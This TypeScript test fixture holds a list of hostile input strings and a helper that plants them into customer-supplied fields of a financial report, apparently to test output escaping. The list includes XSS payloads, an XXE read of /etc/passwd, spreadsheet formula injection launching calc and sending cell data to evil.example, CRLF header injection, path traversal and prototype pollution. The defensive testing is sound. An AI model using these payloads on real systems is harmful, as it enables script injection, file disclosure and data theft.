import type { ReportDocument } from "@/lib/engine/document";

/**
 * Text that a bank, a payer, a firm or a customer might enter, accidentally or to attack a page, a table, a parser or
 * a reader. Every format is tested with this list.
 */
export const HOSTILE: Readonly<Record<string, string>> = {
  script: "<script>alert('xss')</script>",
  attribute: `"><img src=x onerror="alert(1)"><svg/onload=alert(2)>`,
  closing: "</style></script></title></textarea><script>alert(3)</script>",
  comment: "--><!-- <![if IE]> <!--[if gte IE 4]><script>alert(4)</script><![endif]-->",
  address: `javascript:alert(5) data:text/html,<script>alert(6)</script>`,
  style: "}</style><style>@import url(https://evil.example/x.css);*{background:url(https://evil.example/b)}",
  entity:
    "]]> <!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]> &a; &lt;b&gt; &#x3c;script&#62; &amp;amp;",
  cdata: "<![CDATA[ <b>bold</b> ]]> <?php echo 1 ?> <?xml-stylesheet href='https://evil.example'?>",
  "formula =": `=HYPERLINK("http://evil.example?x="&A1,"click")`,
  "formula +": "+cmd|' /C calc'!A0",
  "formula -": "-2+3+cmd|' /C calc'!A0",
  "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
  "formula after a tab": "\t=1+1",
  "formula after a return": "\r=1+1",
  "formula, wide": "＝1+1",
  quotes: `She said "no", 'maybe'; and a comma, a;semicolon`,
  lines: "one\ntwo\r\nthree\rfour\u2028five\u2029six\u0085seven",
  override: "safe \u202Etxt.exe\u202C and \u202Dleft\u202C",
  isolate: "\u2066one\u2069 \u2067two\u2069 \u2068three\u2069 \u200Emark\u200F \u061C",
  controls: "bell\u0007 escape\u001B[31m red\u001B[0m back\u0008 null\u0000 delete\u007F",
  "controls above": "nel\u0085 csi\u009B31m st\u009C apc\u009F soft\u00ADhyphen",
  "half a pair": "high \uD800 low \uDC00 end\uD83D",
  noncharacters: "a\uFFFE b\uFFFF c\u{1FFFE} bom\uFEFF annotated\uFFF9x\uFFFAy\uFFFB",
  long: "W".repeat(2_000),
  "long words": "Donaudampfschifffahrtsgesellschaftskapitän ".repeat(40),
  marks: `z${"\u0300\u0301\u0323\u0330".repeat(60)}algo`,
  emoji: "👩‍👩‍👧‍👦 🇦🇺 👍🏽 1️⃣ ❤️‍🔥 🏴󠁧󠁢󠁥󠁮󠁧󠁿",
  arabic: "محمد بن عبد الله — مبلغ 1,234.56 $ (12%)",
  hebrew: "שלום כהן 2026-03-04 עד 05/03",
  chinese: "王小明 歐陽娜娜 ㈱ 𠮷野家",
  japanese: "山田 太郎 ヤマダ タロウ ﾔﾏﾀﾞ",
  korean: "김철수 주식회사",
  thai: "สมชาย ใจดี น้ำผึ้ง",
  hindi: "श्री अमित कुमार",
  vietnamese: "Nguyễn Thị Phương Đặng Ẩn",
  greek: "Γιώργος Παπαδόπουλος",
  cyrillic: "Алексей Щукин Ђорђе",
  latin: "Zoë Ångström Łukasz Żółć İpek Ğül Māori O’Brien",
  ligatures: "ﷺ ﬁ ﬀ Ⅷ ½ ℡",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text imitates a template on purpose.
  template: "{{constructor.constructor('alert(7)')()}} ${alert(8)} <%= 1 %> #{1} {% x %} __proto__",
  proto: '{"__proto__":{"admin":true},"constructor":{"prototype":{}}}',
  replacement: "$& $1 $` $' $$ \\u003cscript\\u003e \\0 %s %00 %0d%0aSet-Cookie:x=1",
  path: "../../../../etc/passwd\\..\\..\\windows",
  empty: "",
  spaces: "  \u00A0\u3000 edge \u2003 ",
};

/** Members of the document that contain text of a bank, a payer, a firm or a customer. */
const FOREIGN: ReadonlySet<string> = new Set([
  ...["clientName", "clientRef", "periodLabel", "companyName", "nameAsGiven", "namesOnAccounts"],
  ...[
    "institution",
    "institutions",
    "holder",
    "displayName",
    "productName",
    "productCategory",
    "maskedNumber",
  ],
  ...["rateType", "repaymentType", "repaymentFrequency", "description", "name", "rawExamples", "lender"],
  ...[
    "lenders",
    "entity",
    "abn",
    "payee",
    "recurrence",
    "interval",
    "hint",
    "gateway",
    "cardSuffix",
    "place",
  ],
  ...["state", "country", "receipt", "foreignCurrency", "note", "hemHousehold", "text", "currency"],
]);

/**
 * Replaces every text in the members that FOREIGN names, even if it is null. `say` returns the new text. It gets the
 * number of texts replaced so far, so that it can return a different text each time. Our own texts (formulas,
 * reasons, labels) are kept.
 */
export function plant(document: ReportDocument, say: (index: number) => string): ReportDocument {
  let index = 0;
  const walk = (value: unknown, isForeign: boolean): unknown => {
    if (isForeign && (value === null || typeof value === "string")) return say(index++);
    if (Array.isArray(value)) return value.map((item) => walk(item, isForeign));
    if (value === null || typeof value !== "object") return value;
    return Object.fromEntries(
      Object.entries(value).map(([name, inner]) => [name, walk(inner, FOREIGN.has(name))]),
    );
  };
  const { definitions, quality, disclaimers, warnings, ...rest } = document;
  return { ...(walk(rest, false) as typeof rest), definitions, quality, disclaimers, warnings };
}
